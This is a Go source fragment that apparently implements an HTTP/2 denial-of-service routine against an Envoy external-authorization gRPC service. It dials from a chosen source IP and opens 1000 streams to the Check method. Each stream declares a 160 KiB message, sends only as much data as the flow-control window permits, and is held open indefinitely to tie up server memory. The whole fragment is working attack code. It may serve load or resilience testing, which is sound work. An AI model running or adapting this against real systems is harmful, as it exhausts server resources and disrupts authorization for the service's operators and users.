package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// message is more than one call may have, window what HTTP/2 lets be sent before the server says more.
const (
	message = 160 << 10
	window  = 60 << 10
	streams = 1000
)

// unfinished opens calls, with as much of a message as may be sent, and never finishes them.
func (p *plan) unfinished(ctx context.Context, from net.IP) {
	c, err := dialFrom(ctx, from, p.GRPC)
	if err != nil {
		return
	}
	defer c.Close()
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return
	}
	f := http2.NewFramer(c, c)
	if f.WriteSettings() != nil {
		return
	}
	// What the server says is read, so that it goes on, and not obeyed.
	go func() { _, _ = io.Copy(io.Discard, c) }()
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	part := append(binary.BigEndian.AppendUint32([]byte{0}, message), make([]byte, 15<<10)...)
	for i := range streams {
		block.Reset()
		for _, h := range [][2]string{
			{":method", "POST"}, {":scheme", "http"}, {":path", "/envoy.service.auth.v3.Authorization/Check"},
			{":authority", "a"},
			{"content-type", "application/grpc"}, {"te", "trailers"},
		} {
			_ = encoder.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}) // into a buffer
		}
		id := uint32(2*i + 1)
		if f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true}) != nil {
			return
		}
		for range window / len(part) {
			if f.WriteData(id, false, part) != nil {
				return
			}
		}
	}
	<-ctx.Done()
}
